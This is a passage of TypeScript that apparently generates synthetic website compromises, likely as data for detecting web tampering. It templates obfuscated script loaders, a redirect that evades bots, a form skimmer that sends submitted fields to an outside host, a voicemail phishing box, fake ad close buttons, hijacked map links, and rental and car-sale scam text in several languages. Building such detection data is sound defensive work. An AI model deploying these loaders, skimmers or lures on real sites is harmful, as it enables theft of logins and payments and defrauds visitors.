// Loaders run through javascript-obfuscator, recalled from memory of that open-source tool (Timofey Kachalov's javascript-obfuscator, the engine of obfuscator.io), whose string-array, rotation and base64 options produce the "_0x" arrays and decoder functions seen in many Magecart skimmers, SocGholish-style injections and WordPress malware (Sansec, Sucuri and Malwarebytes write-ups, about 2018–2024): every name and URL is a lookup in a shuffled, encoded array, so no host or keyword appears as text.
const obfuscatorLoader = fresh11("loader, redirect or skimmer obfuscated into a rotated _0x string array (javascript-obfuscator)", (page, rng) => {
  const url = `https://${pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["js/jquery.min.js", "static/app.js", "lib/" + alnum(rng, 6) + ".js", "analytics.js?v=" + digits(rng, 3), "r/" + alnum(rng, 5), "c.php"])}`
  const code = obfuscate(rng, (S, v) => {
    const [x, e, o, k, val] = [v(), v(), v(), v(), v()]
    return pick(rng, [
      () => `var ${x}=document[${S("createElement")}](${S("script")});${x}[${S("src")}]=${S(url)};${x}[${S("async")}]=!0x0;document[${S("getElementsByTagName")}](${S("head")})[0x0][${S("appendChild")}](${x});`,
      () => `if(document[${S("cookie")}][${S("indexOf")}](${S("_" + alnum(rng, 3) + "=")})<0x0&&!/bot|crawl|spider/i[${S("test")}](navigator[${S("userAgent")}])){document[${S("cookie")}]=${S(`_${alnum(rng, 3)}=1;path=/;max-age=86400`)};window[${S("location")}][${S("replace")}](${S(url)});}`,
      () => `document[${S("addEventListener")}](${S("submit")},function(${e}){var ${o}={};new FormData(${e}[${S("target")}])[${S("forEach")}](function(${val},${k}){${o}[${k}]=${val};});navigator[${S("sendBeacon")}](${S(url)},JSON[${S("stringify")}](${o}));},!0x0);`
    ])()
  })
  return splices(insert(scriptSpot(rng, page), `<script${pick(rng, ["", ' type="text/javascript"'])}>${code}</script>`))
})

const wpWords: Record<Lang, readonly [string, string, string, string, string, string, string, string]> = {
  en: ["Hello world!", "Welcome to WordPress. This is your first post. Edit or delete it, then start writing!", "Sample Page", "Proudly powered by WordPress", "Just another WordPress site", "A WordPress Commenter", "Hi, this is a comment.", "Uncategorized"],
  fr: ["Bonjour tout le monde !", "Bienvenue sur WordPress. Ceci est votre premier article. Modifiez-le ou supprimez-le, puis commencez à écrire !", "Page d’exemple", "Fièrement propulsé par WordPress", "Un site utilisant WordPress", "Un commentateur WordPress", "Bonjour, ceci est un commentaire.", "Non classé"],
  de: ["Hallo Welt!", "Willkommen bei WordPress. Dies ist dein erster Beitrag. Bearbeite oder lösche ihn und beginne mit dem Schreiben!", "Beispiel-Seite", "Stolz präsentiert von WordPress", "Eine weitere WordPress-Website", "Ein WordPress-Kommentator", "Hallo, dies ist ein Kommentar.", "Allgemein"],
  es: ["¡Hola, mundo!", "Bienvenido a WordPress. Esta es tu primera entrada. Edítala o bórrala, ¡luego empieza a escribir!", "Página de ejemplo", "Funciona gracias a WordPress", "Otro sitio realizado con WordPress", "Un comentarista de WordPress", "Hola, esto es un comentario.", "Sin categoría"],
  nl: ["Hallo wereld!", "Welkom bij WordPress. Dit is je eerste bericht. Bewerk of verwijder het, en begin met schrijven!", "Voorbeeld pagina", "Trots aangedreven door WordPress", "Zomaar weer een WordPress website", "Een WordPress commentator", "Hoi, dit is een reactie.", "Ongecategoriseerd"],
  pt: ["Olá, mundo!", "Boas-vindas ao WordPress. Esse é o seu primeiro post. Edite-o ou exclua-o, e então comece a escrever!", "Página de exemplo", "Orgulhosamente mantido com WordPress", "Só mais um site WordPress", "Um comentarista do WordPress", "Olá, isso é um comentário.", "Sem categoria"],
  it: ["Ciao mondo!", "Benvenuto in WordPress. Questo è il tuo primo articolo. Modificalo o eliminalo e inizia a creare il tuo sito!", "Pagina d'esempio", "Proudly powered by WordPress", "Solo un altro sito WordPress", "Un commentatore di WordPress", "Ciao, questo è un commento.", "Senza categoria"]
}
const wpLocale: Record<Lang, string> = { en: "en-US", fr: "fr-FR", de: "de-DE", es: "es-ES", nl: "nl-NL", pt: "pt-BR", it: "it-IT" }

// Sites wiped back to a fresh install, recalled from memory of WebARX's disclosure (February 2020) of the ThemeGrill Demo Importer flaw, exploited in the wild to reset WordPress databases and log in as "admin", and of Wordfence's report (January 2020) on the WP Database Reset plugin, whose bug let anyone reset the tables: the home page comes back as a new WordPress site, with the default theme, "Hello world!" and "Sample Page", in the install's language or in English.
const wordpressReset: ChangeClass = { ...fresh11("site wiped back to a fresh WordPress install ('Hello world!' and 'Sample Page')", (page, rng) => {
  const l: Lang = chance(rng, 0.7) ? page.site.locale.lang : "en"
  const [hello, welcome, sample, powered, tagline, commenter, comment, uncategorized] = wpWords[l]
  const origin = new URL(page.site.url).origin
  const name = pick(rng, [brandName(page), brandName(page), "My WordPress", "My Blog", "My WordPress Website"])
  const ver = pick(rng, ["6.4.3", "6.5.2", "6.6.1", "6.7", "6.7.1", "6.8.1"])
  const d = someDate(rng)
  const iso = d.toISOString().slice(0, 19) + "+00:00"
  const shownDate = page.site.locale.date(d)
  const block = chance(rng, 0.5)
  const head = `<meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><meta name='robots' content='max-image-preview:large'><title>${esc(name)}${block ? "" : ` – ${esc(tagline)}`}</title><link rel="alternate" type="application/rss+xml" title="${esc(name)} » Feed" href="${origin}/feed/"><link rel='stylesheet' id='wp-block-library-css' href='${origin}/wp-includes/css/dist/block-library/style.min.css?ver=${ver}' media='all'><link rel='stylesheet' id='${block ? "twentytwentyfour" : "twenty-twenty-one"}-style-css' href='${origin}/wp-content/themes/${block ? "twentytwentyfour" : "twentytwentyone"}/style.css?ver=${block ? "1.2" : "2.3"}' media='all'><link rel="https://api.w.org/" href="${origin}/wp-json/"><meta name="generator" content="WordPress ${ver}">`
  const post = `<article id="post-1" class="post-1 post type-post status-publish format-standard hentry category-uncategorized"><header class="entry-header"><h2 class="entry-title"><a href="${origin}/${chance(rng, 0.5) ? "?p=1" : `${d.getUTCFullYear()}/${String(d.getUTCMonth() + 1).padStart(2, "0")}/${String(d.getUTCDate()).padStart(2, "0")}/hello-world/`}">${esc(hello)}</a></h2></header><div class="entry-content"><p>${esc(welcome)}</p></div><footer class="entry-footer"><span class="posted-on"><time class="entry-date published" datetime="${iso}">${esc(shownDate)}</time></span> <span class="cat-links"><a href="${origin}/category/uncategorized/" rel="category tag">${esc(uncategorized)}</a></span> <span class="comments-link"><a href="${origin}/?p=1#comments">1</a></span></footer></article>`
  const comment1 = chance(rng, 0.4) ? `<section class="comments"><p><b>${esc(commenter)}</b>: ${esc(comment)}</p></section>` : ""
  const body = block
    ? `<body class="home blog logged-out wp-embed-responsive"><div class="wp-site-blocks"><header class="wp-block-template-part"><div class="wp-block-group"><p class="wp-block-site-title"><a href="${origin}" target="_self" rel="home">${esc(name)}</a></p><nav class="wp-block-navigation"><ul class="wp-block-page-list"><li class="wp-block-pages-list__item"><a class="wp-block-pages-list__item__link" href="${origin}/sample-page/">${esc(sample)}</a></li></ul></nav></div></header><main class="wp-block-group">${post}${comment1}</main><footer class="wp-block-template-part"><p class="has-small-font-size">${esc(powered).replace("WordPress", `<a href="https://${l === "en" ? "" : l + "."}wordpress.org" rel="nofollow">WordPress</a>`)}</p></footer></div></body>`
    : `<body class="home blog wp-embed-responsive is-light-theme no-js hfeed has-main-navigation"><div id="page" class="site"><header id="masthead" class="site-header has-title-and-tagline has-menu"><div class="site-branding"><h1 class="site-title">${esc(name)}</h1><p class="site-description">${esc(tagline)}</p></div><nav id="site-navigation" class="primary-navigation"><div class="primary-menu-container"><ul id="primary-menu-list" class="menu-wrapper"><li class="page_item page-item-2"><a href="${origin}/sample-page/">${esc(sample)}</a></li></ul></div></nav></header><div id="content" class="site-content"><div id="primary" class="content-area"><main id="main" class="site-main">${post}${comment1}</main></div></div><footer id="colophon" class="site-footer"><div class="site-info"><div class="site-name"><a href="${origin}/">${esc(name)}</a></div><div class="powered-by">${esc(powered).replace("WordPress", '<a href="https://wordpress.org/">WordPress</a>')}</div></div></footer></div></body>`
  return { html: `<!DOCTYPE html>\n<html lang="${wpLocale[l]}">\n<head>${head}</head>\n${body}\n</html>\n` }
}), wholePage: true }

const adWords: Record<Lang, ReadonlyArray<string>> = {
  en: ["Only today: 90% off for the first 500 visitors", "You have been selected for an exclusive reward", "This kitchen gadget is selling out everywhere"],
  fr: ["Aujourd'hui seulement : -90 % pour les 500 premiers visiteurs", "Vous avez été sélectionné pour une récompense exclusive", "Ce gadget de cuisine est en rupture partout"],
  de: ["Nur heute: 90 % Rabatt für die ersten 500 Besucher", "Sie wurden für eine exklusive Prämie ausgewählt", "Dieses Küchengerät ist überall ausverkauft"],
  es: ["Solo hoy: 90 % de descuento para los primeros 500 visitantes", "Ha sido seleccionado para una recompensa exclusiva", "Este utensilio de cocina se agota en todas partes"],
  nl: ["Alleen vandaag: 90% korting voor de eerste 500 bezoekers", "U bent geselecteerd voor een exclusieve beloning", "Dit keukengadget is overal uitverkocht"],
  pt: ["Só hoje: 90% de desconto para os primeiros 500 visitantes", "Você foi selecionado para uma recompensa exclusiva", "Este utensílio de cozinha está esgotando em todo lugar"],
  it: ["Solo oggi: 90% di sconto per i primi 500 visitatori", "Sei stato selezionato per un premio esclusivo", "Questo gadget da cucina va a ruba ovunque"]
}

// Ads whose close button is the click-through, recalled from memory of the FTC staff report "Bringing Dark Patterns to Light" (September 2022), which lists disguised ads among deceptive designs, of the Coalition for Better Ads' standards against sticky and pop-up formats, and of malvertising notes (Confiant, Malwarebytes, about 2019–2023) on ads whose "×" opens the advertiser's page: a sticky bar pinned to the bottom of the window advertises a scam, and its close control is itself a link (or opens one before closing).
const fakeAdClose = fresh11("sticky ad bar whose close (×) button is itself a link to the advertised site", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["track", "go", "click", "offer"])}.${randomDomain(rng)}`])}/${pick(rng, ["c/" + alnum(rng, 8), "click?z=" + digits(rng, 6), "lp/" + alnum(rng, 5), "?sub=" + alnum(rng, 6)])}`
  const img = `https://${pick(rng, [randomDomain(rng), "i.imgur.com"])}/${alnum(rng, 7)}.${pick(rng, ["jpg", "png", "gif"])}`
  const close = pick(rng, [
    () => `<a href="${esc(url)}" target="_blank" rel="nofollow" aria-label="Close" style="position:absolute;top:2px;right:8px;font-size:22px;line-height:22px;color:#777;text-decoration:none">×</a>`,
    () => `<span role="button" aria-label="Close" onclick="window.open('${esc(url)}');this.parentNode.style.display='none'" style="position:absolute;top:2px;right:8px;font-size:20px;cursor:pointer;color:#777">✕</span>`,
    () => `<button type="button" aria-label="Close" onclick="location.href='${esc(url)}'" style="position:absolute;top:4px;right:6px;border:0;background:#eee;border-radius:50%;width:22px;height:22px">×</button>`
  ])()
  const bar = `<div class="${pick(rng, ["sticky-ad", "anchor-ad", "adhesion", "ad-" + alnum(rng, 4)])}" style="position:fixed;left:0;right:0;${pick(rng, ["bottom", "bottom", "top"])}:0;z-index:${zIndex(rng)};background:#fff;box-shadow:0 0 8px rgba(0,0,0,.35);padding:6px 40px 6px 10px;font:14px Arial,sans-serif"><small style="position:absolute;top:2px;left:4px;font-size:9px;color:#999">${pick(rng, ["Ad", "Ad ⓘ", "Sponsored", "Anzeige", "Publicité"])}</small><a href="${esc(url)}" target="_blank" rel="nofollow sponsored" style="color:#000;text-decoration:none;display:flex;align-items:center;gap:10px"><img src="${esc(img)}" width="${between(rng, 50, 90)}" height="50" alt=""><span>${esc(pick(rng, siteOr(rng, page, adWords)))}</span></a>${close}</div>`
  return splices(insert(pick(rng, [bottom(page), top(page), anySlot(rng, page.spots)]), bar))
})

const directionsWords: Record<Lang, string> = {
  en: "Find us on Google Maps", fr: "Nous trouver sur Google Maps", de: "So finden Sie uns (Google Maps)", es: "Cómo llegar (Google Maps)",
  nl: "Routebeschrijving (Google Maps)", pt: "Como chegar (Google Maps)", it: "Come raggiungerci (Google Maps)"
}
const coord = (rng: Rng, lo: number, hi: number) => (lo + rng() * (hi - lo)).toFixed(7)
/** A link to a map or directions service. */
const isMapUrl = (u: URL) =>
  u.hostname.startsWith("maps.google.") || (/(^|\.)google\.[a-z.]+$/.test(u.hostname) && u.pathname.startsWith("/maps")) ||
  ((u.hostname === "goo.gl" || u.hostname === "www.bing.com") && u.pathname.startsWith("/maps")) ||
  /^(maps\.app\.goo\.gl|maps\.apple\.com|(www\.)?openstreetmap\.org|(www\.)?waze\.com)$/.test(u.hostname)

// Map listings hijacked or faked, recalled from memory of The Wall Street Journal's investigation (Rob Copeland and Katherine Bindley, June 2019) "Millions of Business Listings on Google Maps Are Fake—and Google Profits", on fake and hijacked listings of locksmiths, repair shops and service centres whose phone numbers reach the scammers, and of Google's later reports on removing such profiles: the site's map and directions links (or a new "find us" link, sometimes with an embedded map) now open another place listing under the site's name, whose phone number is the attacker's.
const mapListing = fresh11("site's map and directions links pointed at another business listing under the site's name", (page, rng) => {
  const place = `${brandName(page)}${pick(rng, ["", " " + pick(rng, ["Customer Service", "Head Office", "Service Center", "Store", "Support"])])}`
  const [lat, lng] = [coord(rng, 25, 55), coord(rng, -100, 30)]
  const fid = `0x${hex(rng, 16)}:0x${hex(rng, 16)}`
  const url = () => pick(rng, [
    () => `https://www.google.com/maps/place/${encodeURIComponent(place).replace(/%20/g, "+")}/@${lat},${lng},${between(rng, 14, 18)}z/data=!3m1!4b1!4m6!3m5!1s${fid}!8m2!3d${lat}!4d${lng}!16s%2Fg%2F11${alnum(rng, 9)}`,
    () => `https://maps.app.goo.gl/${charsOf(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 17)}`,
    () => `https://www.google.com/maps?cid=${digits(rng, 19)}`,
    () => `https://goo.gl/maps/${charsOf(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 11)}`
  ])()
  const embed = `https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d${digits(rng, 4)}.${digits(rng, 3)}!2d${lng}!3d${lat}!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s${fid}!2s${encodeURIComponent(place)}!5e0!3m2!1s${page.site.locale.lang}!2s${page.site.locale.country}!4v${digits(rng, 13)}!5m2!1s${page.site.locale.lang}!2s${page.site.locale.country}`
  const out: Array<Splice> = resolvedLinks(page)
    .filter(({ u }) => isMapUrl(u))
    .map((t) => replace(t.value, esc(url())))
  for (const t of attrTargets(page, page.spots.elements.filter((e) => e.name === "iframe" && /google\.[a-z.]+\/maps|maps\.google\./.test(e.attribs.src ?? "")), "src")) out.push(replace(t.value, esc(embed)))
  if (out.length === 0) {
    const link = `📍 <a href="${esc(url())}" target="_blank" rel="noopener">${esc(siteOr(rng, page, directionsWords))}</a>`
    const frame = chance(rng, 0.4) ? `<iframe src="${esc(embed)}" width="${pick(rng, [400, 600, 100])}${pick(rng, ["", "%"])}" height="${pick(rng, [250, 300, 450])}" style="border:0" allowfullscreen loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>` : ""
    const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl)
    out.push(line !== null && frame === "" ? insert(line.at, line.wrap(link)) : insert(anySlot(rng, page.spots), `<div class="${pick(rng, ["map", "location", "find-us"])}"><p>${link}</p>${frame}</div>`))
  }
  return { splices: out }
})

const voicemailWords: Record<Lang, readonly [string, (n: string, d: string, s: string) => string, string, string]> = {
  en: ["You have a new voice message", (n, d, s) => `Caller: ${n} · Received: ${d} · Length: ${s}`, "Play message", "Sign in with your work or e-mail account to listen to the recording."],
  fr: ["Vous avez un nouveau message vocal", (n, d, s) => `Appelant : ${n} · Reçu le : ${d} · Durée : ${s}`, "Écouter le message", "Connectez-vous avec votre compte professionnel ou e-mail pour écouter l'enregistrement."],
  de: ["Sie haben eine neue Sprachnachricht", (n, d, s) => `Anrufer: ${n} · Empfangen: ${d} · Dauer: ${s}`, "Nachricht abspielen", "Melden Sie sich mit Ihrem Arbeits- oder E-Mail-Konto an, um die Aufnahme anzuhören."],
  es: ["Tiene un nuevo mensaje de voz", (n, d, s) => `Llamante: ${n} · Recibido: ${d} · Duración: ${s}`, "Escuchar mensaje", "Inicie sesión con su cuenta de trabajo o de correo para escuchar la grabación."],
  nl: ["U hebt een nieuw voicemailbericht", (n, d, s) => `Beller: ${n} · Ontvangen: ${d} · Duur: ${s}`, "Bericht afspelen", "Log in met uw werk- of e-mailaccount om de opname te beluisteren."],
  pt: ["Você tem uma nova mensagem de voz", (n, d, s) => `Chamador: ${n} · Recebida em: ${d} · Duração: ${s}`, "Ouvir mensagem", "Entre com sua conta de trabalho ou de e-mail para ouvir a gravação."],
  it: ["Hai un nuovo messaggio vocale", (n, d, s) => `Chiamante: ${n} · Ricevuto: ${d} · Durata: ${s}`, "Ascolta il messaggio", "Accedi con il tuo account di lavoro o e-mail per ascoltare la registrazione."]
}

// Voicemail-notification phishing, recalled from memory of Zscaler ThreatLabz's report (mid-2022) on a campaign sending "missed voicemail" lures to US organisations, and of similar McAfee and Avanan write-ups (2020–2021): a notice with an audio-player look-alike, a caller number and a length, whose play button leads to a Microsoft 365 or webmail sign-in clone; here it sits on the site, styled like the site's phone system or a telephony brand.
const voicemailPhish = fresh11("'you have a new voice message' player whose play button leads to a sign-in clone (voicemail phishing)", (page, rng) => {
  const [h, meta, play, note] = siteOr(rng, page, voicemailWords)
  const host = pick(rng, [`${page.site.brand}-voicemail.${tld(rng)}`, `voicemail-${alnum(rng, 5)}.${tld(rng)}`, `${alnum(rng, 8)}.${pick(rng, ["web.app", "pages.dev", "workers.dev", "firebaseapp.com", "glitch.me"])}`, `vm.${brandLookalike(rng, page.site.brand)}`])
  const href = `https://${host}/${pick(rng, ["voicemail/", "vm/play", "listen", "audio/" + hex(rng, 8)])}?${pick(rng, ["id", "msg", "vm"])}=${hex(rng, 12)}`
  const secs = between(rng, 14, 119)
  const len = `${Math.floor(secs / 60)}:${String(secs % 60).padStart(2, "0")}`
  const sender = pick(rng, ["Microsoft Teams", "RingCentral", "3CX", "Vonage", `${brandName(page)} Voicemail`, "Cisco Unity Connection"])
  const box = `<div class="${pick(rng, ["voicemail", "vm-notice", "audio-message"])}" style="border:1px solid #c8c8c8;border-radius:8px;padding:14px 18px;margin:12px 0;max-width:520px;font-family:Segoe UI,Arial,sans-serif;background:#fafafa"><p style="margin:0;color:#555;font-size:12px">${esc(sender)}</p><h3 style="margin:4px 0">🎤 ${esc(h)}</h3><p style="font-size:13px">${esc(meta(intlMobile(rng), dateOf(rng, page), len))}</p><a href="${esc(href)}" style="display:flex;align-items:center;gap:10px;text-decoration:none;color:#222"><span style="display:inline-block;width:34px;height:34px;border-radius:50%;background:#6264a7;color:#fff;text-align:center;line-height:34px">▶</span><span style="flex:1;height:6px;background:#ddd;border-radius:3px;min-width:200px"></span><span>0:00 / ${len}</span></a><p><a href="${esc(href)}">${esc(play)}</a> · <small>${esc(note)}</small></p></div>`
  return splices(insert(noticeSpot(rng, page), box))
})

const rentalWords: Record<Lang, readonly [string, (r: string) => string, string]> = {
  en: ["Flat to rent – available now", (r) => `Bright two-bedroom flat in the centre, fully furnished, ${r} a month with bills included. I am working abroad at the moment so I cannot show it in person: once the first month and the deposit are paid by bank transfer, I will send you the keys and the contract by courier. Many people are interested, so write to me today.`, "Contact the owner"],
  fr: ["Appartement à louer – libre de suite", (r) => `Bel appartement de deux chambres en centre-ville, entièrement meublé, ${r} par mois charges comprises. Je travaille actuellement à l'étranger et ne peux pas le faire visiter : dès réception du premier loyer et de la caution par virement, je vous envoie les clés et le bail par transporteur. Beaucoup de demandes, écrivez-moi aujourd'hui.`, "Contacter le propriétaire"],
  de: ["Wohnung zu vermieten – sofort frei", (r) => `Helle Dreizimmerwohnung im Zentrum, voll möbliert, ${r} warm im Monat. Ich arbeite zurzeit im Ausland und kann keine Besichtigung anbieten: Sobald die erste Miete und die Kaution überwiesen sind, schicke ich Ihnen Schlüssel und Vertrag per Kurier. Es gibt viele Interessenten, schreiben Sie mir noch heute.`, "Vermieter kontaktieren"],
  es: ["Piso en alquiler – disponible ya", (r) => `Luminoso piso de dos habitaciones en el centro, totalmente amueblado, ${r} al mes con gastos incluidos. Ahora mismo trabajo en el extranjero y no puedo enseñarlo: en cuanto reciba el primer mes y la fianza por transferencia, le envío las llaves y el contrato por mensajería. Hay muchos interesados, escríbame hoy.`, "Contactar con el propietario"],
  nl: ["Appartement te huur – direct beschikbaar", (r) => `Licht tweekamerappartement in het centrum, volledig gemeubileerd, ${r} per maand inclusief servicekosten. Ik werk momenteel in het buitenland en kan het niet laten zien: zodra de eerste maand en de borg zijn overgemaakt, stuur ik u de sleutels en het contract per koerier. Er is veel belangstelling, mail me vandaag nog.`, "Contact opnemen met de verhuurder"],
  pt: ["Apartamento para alugar – disponível já", (r) => `Apartamento claro de dois quartos no centro, totalmente mobiliado, ${r} por mês com contas incluídas. Estou trabalhando no exterior e não posso mostrá-lo pessoalmente: assim que o primeiro aluguel e o depósito caução forem pagos por transferência, envio as chaves e o contrato por transportadora. Há muitos interessados, escreva-me hoje.`, "Falar com o proprietário"],
  it: ["Appartamento in affitto – libero subito", (r) => `Luminoso bilocale in centro, completamente arredato, ${r} al mese spese incluse. Al momento lavoro all'estero e non posso mostrarlo: appena ricevuti il primo mese e la caparra con bonifico, le spedisco chiavi e contratto tramite corriere. Ci sono molte richieste, mi scriva oggi stesso.`, "Contatta il proprietario"]
}

// Rental-listing fraud, recalled from memory of the FTC's consumer alerts on rental listing scams (about 2018–2023), Action Fraud's and Rightmove's warnings in the UK, and Dutch and German police warnings about "verhuurfraude" aimed at students: an attractive flat at a low rent, an owner "abroad" who cannot show it, and keys "sent by courier" once the deposit is wired. Such listings are planted on classified and community pages as well as on hacked sites.
const rentalScam = fresh11("'flat to rent, owner abroad, keys sent after the deposit' rental-listing scam", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, rentalWords)
  const rent = page.site.locale.money(pick(rng, [450, 520, 590, 650, 700, 780]))
  const contact = `${pick(rng, ["maria", "john", "anna", "peter", "julia", "thomas", "sofia", "david"])}.${pick(rng, ["owner", "rent", "home", "flat"])}${digits(rng, 2)}@${freeMail(rng)}`
  const pics = Array.from({ length: between(rng, 1, 4) }, (_, i) => `<img src="https://${pick(rng, [randomDomain(rng), "i.postimg.cc/" + alnum(rng, 8)])}/${pick(rng, ["flat", "apt", "room", "living"])}-${i + 1}.jpg" width="${between(rng, 120, 200)}" alt="">`).join(" ")
  const block = `<div class="${pick(rng, ["listing", "classified", "ad-rental", "post"])}" style="border:1px solid #ddd;padding:12px;margin:12px 0"><h3>🏠 ${esc(h)}</h3><p>${pics}</p><p>${esc(p(rent))}</p><p><strong>${esc(cta)}:</strong> <a href="mailto:${contact}">${contact}</a>${chance(rng, 0.4) ? ` · WhatsApp ${intlMobile(rng)}` : ""}</p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

const carWords: Record<Lang, readonly [string, (car: string, km: string, price: string, via: string) => string, string]> = {
  en: ["Car for sale – must go this week", (c, k, p, v) => `${c}, ${k}, one owner, full service history. Only ${p} because I have been deployed abroad with the army and must sell quickly. The car is already at the ${v} shipping centre: you pay through ${v} buyer protection and it is delivered to your door within 3 days, with 5 days to inspect it.`, "E-mail the seller"],
  fr: ["Voiture à vendre – urgent", (c, k, p, v) => `${c}, ${k}, première main, carnet d'entretien complet. Seulement ${p} car je suis muté à l'étranger avec l'armée et dois vendre vite. Le véhicule est déjà au centre d'expédition ${v} : vous payez via la protection acheteur ${v} et il est livré chez vous sous 3 jours, avec 5 jours pour l'essayer.`, "Écrire au vendeur"],
  de: ["Auto zu verkaufen – dringend", (c, k, p, v) => `${c}, ${k}, erste Hand, scheckheftgepflegt. Nur ${p}, weil ich mit der Armee ins Ausland versetzt wurde und schnell verkaufen muss. Das Fahrzeug steht bereits im Versandzentrum von ${v}: Sie zahlen über den ${v}-Käuferschutz, Lieferung vor die Haustür in 3 Tagen, 5 Tage Prüfzeit.`, "Verkäufer anschreiben"],
  es: ["Coche en venta – urgente", (c, k, p, v) => `${c}, ${k}, único dueño, libro de mantenimiento completo. Solo ${p} porque me han destinado al extranjero con el ejército y debo venderlo rápido. El coche ya está en el centro de envíos de ${v}: paga con la protección al comprador de ${v} y se lo entregan en casa en 3 días, con 5 días para revisarlo.`, "Escribir al vendedor"],
  nl: ["Auto te koop – moet deze week weg", (c, k, p, v) => `${c}, ${k}, eerste eigenaar, volledig onderhouden. Slechts ${p} omdat ik met het leger naar het buitenland ben uitgezonden en snel moet verkopen. De auto staat al bij het verzendcentrum van ${v}: u betaalt via de kopersbescherming van ${v} en hij wordt binnen 3 dagen thuisbezorgd, met 5 dagen bedenktijd.`, "Mail de verkoper"],
  pt: ["Carro à venda – urgente", (c, k, p, v) => `${c}, ${k}, único dono, revisões em dia. Apenas ${p} porque fui transferido para o exterior com o exército e preciso vender rápido. O carro já está no centro de envio da ${v}: você paga pela proteção ao comprador da ${v} e recebe em casa em 3 dias, com 5 dias para inspeção.`, "Enviar e-mail ao vendedor"],
  it: ["Auto in vendita – urgente", (c, k, p, v) => `${c}, ${k}, unico proprietario, tagliandi certificati. Solo ${p} perché sono stato trasferito all'estero con l'esercito e devo vendere in fretta. L'auto è già al centro spedizioni di ${v}: paghi con la protezione acquirenti di ${v} e la ricevi a casa in 3 giorni, con 5 giorni per provarla.`, "Scrivi al venditore"]
}

// Online vehicle-sale fraud, recalled from memory of the FBI IC3's public service announcements on online vehicle sales (2014, updated about 2019): a car priced well below market by a seller who says he is in the military and about to deploy, "shipped" from a logistics centre, paid through a fake eBay Motors, Amazon or Google Wallet buyer-protection programme (later with gift cards), with an inspection period that never comes.
const vehicleEscrow = fresh11("'soldier deployed abroad sells car cheaply, pay through eBay Motors protection' vehicle-escrow scam", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, carWords)
  const car = `${between(rng, 2014, 2021)} ${pick(rng, ["Toyota RAV4", "Honda CR-V", "Volkswagen Golf", "BMW 320d", "Ford F-150", "Audi A4 Avant", "Mercedes C 220", "Jeep Wrangler", "Tesla Model 3"])}`
  const km = page.site.locale.country === "us" || page.site.locale.country === "uk" ? `${between(rng, 21, 68)},${digits(rng, 3)} miles` : `${between(rng, 35, 110)}.${digits(rng, 3)} km`
  const price = page.site.locale.money(between(rng, 28, 79) * 100)
  const via = pick(rng, ["eBay Motors", "Amazon", "Google Wallet"])
  const mail = `${pick(rng, ["sgt", "capt", "lt", "mike", "james", "robert"])}.${pick(rng, ["miller", "johnson", "smith", "wilson", "brown"])}${digits(rng, 2)}@${freeMail(rng)}`
  const pics = Array.from({ length: between(rng, 1, 3) }, (_, i) => `<img src="https://${randomDomain(rng)}/${pick(rng, ["cars", "img", "ad"])}/${slug(car)}-${i + 1}.jpg" width="${between(rng, 140, 220)}" alt="${esc(car)}">`).join(" ")
  const block = `<div class="${pick(rng, ["listing", "classified", "car-ad"])}" style="border:1px solid #ccc;padding:12px;margin:12px 0"><h3>🚗 ${esc(h)}: ${esc(car)}</h3><p>${pics}</p><p>${esc(p(car, km, price, via))}</p><p><strong>${esc(cta)}:</strong> <a href="mailto:${mail}">${mail}</a></p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

const airports: Record<string, string> = {
  us: "JFK Airport", uk: "Heathrow Airport", fr: "Aéroport Paris-Charles-de-Gaulle", de: "Flughafen Frankfurt", es: "Aeropuerto Adolfo Suárez Madrid-Barajas",
  nl: "Schiphol", au: "Sydney Airport", in: "Delhi Airport", br: "Aeroporto de Guarulhos", it: "Aeroporto di Fiumicino"
}
const luggageWords: Record<Lang, readonly [(f: string) => string, (a: string) => string, string, (m: string) => string]> = {
  en: [(f) => `Unclaimed airport suitcases for only ${f}!`, (a) => `${a} is clearing its lost-luggage store: suitcases left unclaimed for more than 90 days are sold sealed, contents unknown. Laptops, phones, jewellery and designer clothes have been found inside. Stock is limited.`, "Reserve my suitcase", (m) => `By ordering you join the Mystery Club: after a 5-day trial you will be billed ${m} a month until you cancel.`],
  fr: [(f) => `Valises non réclamées de l'aéroport pour seulement ${f} !`, (a) => `${a} vide son stock de bagages perdus : les valises non réclamées depuis plus de 90 jours sont vendues fermées, contenu inconnu. On y a trouvé des ordinateurs, des téléphones, des bijoux et des vêtements de marque. Stock limité.`, "Réserver ma valise", (m) => `En commandant, vous rejoignez le Club Mystère : après 5 jours d'essai, ${m} vous seront prélevés chaque mois jusqu'à résiliation.`],
  de: [(f) => `Nicht abgeholte Flughafenkoffer für nur ${f}!`, (a) => `${a} räumt sein Fundgepäcklager: Koffer, die seit über 90 Tagen nicht abgeholt wurden, werden verschlossen verkauft, Inhalt unbekannt. Darin fanden sich schon Laptops, Handys, Schmuck und Markenkleidung. Nur solange der Vorrat reicht.`, "Meinen Koffer reservieren", (m) => `Mit der Bestellung treten Sie dem Mystery Club bei: Nach 5 Tagen Testphase werden monatlich ${m} abgebucht, bis Sie kündigen.`],
  es: [(f) => `¡Maletas no reclamadas del aeropuerto por solo ${f}!`, (a) => `${a} vacía su almacén de equipaje perdido: las maletas sin reclamar desde hace más de 90 días se venden cerradas, contenido desconocido. Dentro se han encontrado portátiles, móviles, joyas y ropa de marca. Existencias limitadas.`, "Reservar mi maleta", (m) => `Al pedir se une al Club Misterio: tras 5 días de prueba se le cobrarán ${m} al mes hasta que cancele.`],
